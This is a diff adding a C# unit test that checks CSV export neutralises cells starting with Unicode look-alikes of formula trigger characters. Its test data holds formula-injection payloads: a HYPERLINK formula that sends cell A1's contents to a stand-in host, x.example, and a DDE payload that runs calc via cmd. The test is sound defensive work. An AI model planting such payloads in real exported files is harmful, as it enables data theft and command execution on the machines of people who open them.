@@ -116,6 +116,22 @@ public sealed class ExportWritersShould
         }
     }
 
+    [Theory]
+    [InlineData("\uFE66HYPERLINK(\"http://x.example/?\"&A1,\"点击\")")] // ﹦ small equals sign (round 24 red team)
+    [InlineData("\uFE62SUM(A1:A9)")] // ﹢ small plus sign
+    [InlineData("\uFE63SUM(A1:A9)")] // ﹣ small hyphen-minus
+    [InlineData("\uFE6Bcmd|' /C calc'!A0")] // ﹫ small commercial at
+    [InlineData("\u2212SUM(A1:A9)")] // − minus sign
+    [InlineData("\u207A1+1")] // ⁺ superscript plus (NFKC +)
+    public async Task Neutralise_a_cell_that_starts_with_a_small_form_or_minus_sign_of_a_formula_trigger(string text)
+    {
+        var table = ExportTable.Of("t", "T", ["h"], [[ExportCell.Of(text)]]);
+
+        var csv = ExportFiles.CsvRecords(await ExportFiles.WriteAsync(ExportFormat.Csv, ExportLabels.English, table));
+
+        Assert.Equal("'" + text, csv[2][0]);
+    }
+
     [Property(MaxTest = 200)]
     public Property Read_back_every_text_as_written_but_neutralised_in_both_formats()
     {
